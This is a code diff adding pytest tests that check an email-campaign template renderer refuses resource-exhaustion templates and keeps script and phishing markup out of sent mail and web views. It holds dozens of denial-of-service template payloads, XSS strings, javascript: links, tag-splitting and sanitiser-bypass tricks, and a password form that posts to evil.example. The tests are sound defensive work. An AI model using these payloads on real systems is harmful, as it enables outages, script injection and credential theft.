@@ -15,11 +15,16 @@ import email.policy
 import tracemalloc
 
 import pytest
+from bs4 import BeautifulSoup
 
 from app.campaigns import rendering
 from app.campaigns.rendering import RenderError
 from app.models import Campaign
+from app.models import CaughtMessage
+from app.models import Contact
+from app.models import Send
 from app.models import Template
+from app.tracking import tokens
 from tests.conftest import soup
 from tests.test_campaigns import create_draft
 from tests.test_campaigns import ready_team  # noqa: F401 - a fixture
@@ -28,6 +33,195 @@ from tests.test_campaigns import ready_team  # noqa: F401 - a fixture
 def render(source, context=None, autoescape=True):
     template, _names = rendering.compile_template(source, autoescape)
     return rendering.render(template, context or {"contact": rendering.Record({"name": "Ann"})})
+
+
+# --- Point 3: memory -----------------------------------------------------------------------------
+
+PEAK = 50 * 2 ** 20  # bytes a refused render may allocate, compile included
+S = "{% set s = 'x' * 100000 %}"  # the largest single value a template may build
+
+ATTACKS = {
+    # Containers stringified: 80 KB of pointers, a gigabyte once printed.
+    "string filter": S + "{{ ([s] * 10000)|string }}",
+    "printed list": S + "{{ [s] * 10000 }}",
+    "printed dict": S + "{{ {'a': [s] * 10000} }}",
+    "nested lists": "{{ [[['x'] * 10000] * 10000] * 10000 }}",
+    "concat ~": S + "{{ ([s] * 10000) ~ '!' }}",
+    "join filter": S + "{{ ([s] * 10000)|join }}",
+    "str.join": S + "{{ ''.join([s] * 10000) }}",
+    "join of lists": S + "{{ ','.join([[s] * 10000]) }}",
+    "replace filter": S + "{{ ([s] * 10000)|replace('x', 'y') }}",
+    "upper filter": S + "{{ ([s] * 10000)|upper }}",
+    "escape filter": S + "{{ ([s] * 10000)|e }}",
+    "urlencode filter": S + "{{ ([s] * 10000)|urlencode }}",
+    "wordcount filter": S + "{{ ([s] * 10000)|wordcount }}",
+    "truncate filter": S + "{{ ([s] * 10000)|truncate(10) }}",
+    "striptags filter": S + "{{ ([s] * 10000)|striptags }}",
+    "sort filter": S + "{{ ([[s] * 10000] * 10000)|sort|first }}",
+    "min filter": S + "{{ ([[s] * 10000] * 10000)|min }}",
+    "list of characters": S + "{{ s|list|length }}",
+    "sorted characters": S + "{{ s|sort|length }}",
+    "split": "{{ (' ' * 99999).split(' ')|length }}",
+    "rsplit with a huge maxsplit": "{{ (' ' * 99999).rsplit(' ', 10**9)|length }}",
+    "splitlines": "{{ ('\\n' * 99999).splitlines()|length }}",
+    # % formatting: capped by its template and the sum of its arguments.
+    "% with many conversions": S + "{% set t = (s,) * 1000 %}{{ ('%s' * 1000) % t }}",
+    "% with a mapping read again": S + "{{ ('%(a)s' * 10000) % {'a': s} }}",
+    "% with widths": "{{ ('%9999s' * 10000) % ((1,) * 10000) }}",
+    "% with precision": "{{ ('%.9999f' * 10000) % ((1.5,) * 10000) }}",
+    "% of a list": S + "{{ '%s' % ([s] * 10000,) }}",
+    # Every value built is charged to the render's budget before it exists.
+    "slices kept": S + "".join("{%% set a%d = s[%d:] %%}" % (i, i) for i in range(1000)),
+    "sums kept": S + "".join("{%% set a%d = s + '%d' %%}" % (i, i) for i in range(1000)),
+    "list concatenation": S + "{% set l = [s] * 10000 %}{{ (l + l)|length }}",
+    # The output is counted as it is generated, not after.
+    "output": S + "{{ s }}" * 1000,
+    # What does not exist cannot be abused.
+    "center": S + "{{ s|center(10**6) }}",
+    "indent": S + "{{ s|indent(10**6) }}",
+    "format filter": S + "{{ '%s'|format(s) }}",
+    "wordwrap": S + "{{ s|wordwrap(1) }}",
+    "tojson": S + "{{ ([s] * 10000)|tojson }}",
+    "batch": S + "{{ ([s] * 10000)|batch(1)|list }}",
+    "range": "{{ range(10**9)|list }}",
+    "str.format": "{{ '{:>99999}'.format(1) * 99999 }}",
+    "ljust": "{{ 'x'.ljust(10**9) }}",
+    "rjust": "{{ 'x'.rjust(10**9) }}",
+    "str.center": "{{ 'x'.center(10**9) }}",
+    "zfill": "{{ 'x'.zfill(10**9) }}",
+    "expandtabs": "{{ ('\t' * 99999).expandtabs(10**4) }}",
+    "loops": S + "{% for a in [s] * 10000 %}{% for b in [s] * 10000 %}{{ a }}{% endfor %}{% endfor %}",
+    "dicts built in loops": "{% for i in [1] * 10000 %}{% set d = {i: [i] * 10000} %}{% endfor %}",
+    # Compiling costs memory per token: 300 KB of `{{ a }}` took 430 MB.
+    "compile": "{{ a }}" * 42000,
+}
+
+
+@pytest.mark.parametrize("source", ATTACKS.values(), ids=ATTACKS.keys())
+@pytest.mark.parametrize("autoescape", [True, False], ids=["html", "text"])
+def test_attacks_are_refused_before_they_allocate(source, autoescape):
+    tracemalloc.start()
+    try:
+        with pytest.raises(RenderError):
+            render(source, autoescape=autoescape)
+        peak = tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+    assert peak < PEAK, f"{peak / 2 ** 20:.0f} MB"
+
+
+def test_output_stops_as_soon_as_it_passes_the_limit():
+    template, _names = rendering.compile_template(S + "{{ s }}" * 1000, True)
+    produced = []
+    with pytest.raises(RenderError, match="output would be longer"):
+        for chunk in rendering.generate(template, {}):
+            produced.append(len(chunk))
+    assert sum(produced) <= rendering.MAX_OUTPUT and len(produced) <= rendering.MAX_OUTPUT // 100_000 + 1
+
+
+def test_what_personalisation_needs_still_works():
+    contact = {"contact": rendering.Record({"name": "Ann Lee", "seats": 3, "tags": "a,b,c"})}
+    assert render("{{ contact.name.split()|join(', ') }}", contact) == "Ann, Lee"
+    assert render("{{ '%s has %d seats' % (contact.name, contact.seats) }}", contact) == "Ann Lee has 3 seats"
+    assert render("{{ '%(name)s!' % contact }} {{ '%5.1f%%' % 12.34 }}", contact) == "Ann Lee!  12.3%"
+    assert render("{{ [1, 'a'] }} {{ {'k': 1} }} {{ contact.tags.split(',', 1) }}", contact, autoescape=False) == \
+        "[1, 'a'] {'k': 1} ['a', 'b,c']"
+    assert render("{{ contact.name[:3] }} {{ contact.name[::-1] }} {{ [1, 2, 3][1:]|join }}", contact) == "Ann eeL nnA 23"
+    assert render("{{ contact.name ~ '!' }} {{ contact.name + '?' }} {{ ([1] + [2])|sum }}", contact) == \
+        "Ann Lee! Ann Lee? 3"
+    assert render("{{ contact.tags.split(',')|sort|reverse|join('-') }} {{ contact.name|list|length }}", contact) == \
+        "c-b-a 7"
+    assert render("{{ ([contact] * 10000)|length }} {{ ([[contact] * 10000] * 10000)|first|length }}", contact) == \
+        "10000 10000"  # a big list is fine as long as nothing prints or walks it
+    # The largest allowed value can still be built and printed once.
+    assert len(render(S + "{{ s }}")) == 100_000
+
+
+# --- Point 4: nothing reaches the inbox or the web view that the sanitiser did not approve ------------
+
+SCRIPT = "{{ '<script>alert(1)</script>' }}"
+FORM = ("{{ '<form action=\"https://evil.example/\"><input name=\"password\"></form>"
+        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">"
+        "<a href=\"javascript:alert(1)\">x</a>' }}")
+RAW = {
+    "raw script": "<p>Hi</p>{% raw %}" + SCRIPT + "{% endraw %}",
+    "raw form": "<p>Hi</p>\n{%- raw -%}" + FORM + "{% endraw %}",
+}
+# A condition whose parts sit inside and outside a tag cuts the tag in two.
+CUTS = {
+    "attribute to text": '<p><a href="https://example.com/{% if contact.vip %}">x</a>{% endif %}" onmouseover="alert(1)" '
+                         'x="</p>',
+    "text to attribute": '<p>{% if contact.vip %}<a title="{% endif %}" onmouseover="alert(1)">x</a></p>',
+    "two attributes": '<p title="{% if contact.vip %}" class="x {% endif %}">x</p>',
+}
+# The sanitiser itself can make a delimiter by removing a tag: "{<x></x>% raw %}" is "{% raw %}" after it.
+MADE = "<p>{<x></x>% raw %}" + SCRIPT + "{<x></x>% endraw %}</p><p>{<x></x>{ 1 }}</p>"
+
+
+def assert_harmless(markup):
+    page = BeautifulSoup(markup, "html.parser")
+    assert not page.select("script, form, input, meta[http-equiv], base, iframe"), markup
+    for element in page.find_all(True):
+        assert not [name for name in element.attrs if name.startswith("on")], markup
+        for name in ("href", "src"):
+            assert not "".join((element.get(name) or "").split()).lower().startswith("javascript:"), markup
+
+
+@pytest.mark.parametrize("body", [*RAW.values(), *CUTS.values()], ids=[*RAW, *CUTS])
+def test_raw_blocks_and_cut_tags_are_refused_at_save_with_the_line(body):
+    with pytest.raises(RenderError, match=r"^Line \d+: .*(raw|different places)"):
+        rendering.clean_source(body, "html")
+    with pytest.raises(RenderError, match="raw|different places"):  # and when a stored body is rendered
+        rendering.prepare(body, "html", "Subject")
+
+
+def test_delimiters_made_by_the_sanitiser_stay_text():
+    saved = rendering.clean_source(MADE, "html")
+    assert "{%" not in saved.replace(SCRIPT, "")
+    prepared = rendering.prepare(MADE, "html", "Subject")
+    out = rendering.render(prepared.html_template, {"contact": rendering.Record({"name": "A"})})
+    assert_harmless(out)
+    assert "&lt;script&gt;" in out and "{% raw %}" in BeautifulSoup(out, "html.parser").text
+    # An opener the author left open is still their syntax error, not text.
+    with pytest.raises(RenderError, match="Line 2"):
+        rendering.prepare("<p>a</p>\n<p>{{ contact.name </p>", "html", "Subject")
+
+
+def test_conditions_in_one_place_still_work():
+    body = ('<table>{% if contact.vip %}<tr><td class="{% if contact.vip %}gold{% else %}red'
+            '{% endif %}">VIP</td></tr>{% elif contact.name %}<tr><td>{{ contact.name }}</td></tr>{% endif %}</table>'
+            '<a href="https://example.com/{% if contact.vip %}vip{% endif %}">x</a>')
+    saved = rendering.clean_source(body, "html")
+    prepared = rendering.prepare(saved, "html", "Subject")
+    out = rendering.render(prepared.html_template, {"contact": rendering.Record({"name": "Ann", "vip": True})})
+    assert 'class="gold"' in out and 'href="https://example.com/vip"' in out
+
+
+@pytest.mark.parametrize("body", [RAW["raw script"], RAW["raw form"], CUTS["attribute to text"], MADE],
+                         ids=["raw script", "raw form", "cut", "made by the sanitiser"])
+def test_the_sent_message_and_the_web_view_carry_nothing_unapproved(app, web, ready_team, body):  # noqa: F811
+    team, news = ready_team
+    campaign = create_draft(web, news)
+    # Stored as it is (campaign bodies are cleaned when rendered; this one may predate the checks).
+    Campaign.update(body=body).where(Campaign.id == campaign.id).execute()
+    sent = web.post(f"/campaigns/{campaign.id}/test", {"addresses": "me@example.com"}, htmx=True)
+    assert sent.status_code < 500
+    for message in CaughtMessage.select():
+        parsed = email.message_from_bytes(bytes(message.raw), policy=email.policy.default)
+        assert_harmless(parsed.get_body(preferencelist=("html",)).get_content())
+    if body != MADE:
+        assert CaughtMessage.select().count() == 0
+        assert "raw" in sent.get_data(as_text=True) or "different places" in sent.get_data(as_text=True)
+    else:
+        assert CaughtMessage.select().count() == 1
+    contact = Contact.get(Contact.email == "reader0@example.com")
+    send = Send.create(campaign=campaign.id, contact=contact, email=contact.email, status="sent")
+    Campaign.update(state="completed").where(Campaign.id == campaign.id).execute()
+    with app.app_context():
+        token = tokens.sign("view", send.id)
+    view = app.test_client(use_cookies=False).get(f"/v/{token}")
+    assert view.status_code == (200 if body == MADE else 404)
+    assert_harmless(view.get_data(as_text=True))
 
 
 # --- Point 7: nesting -----------------------------------------------------------------------------
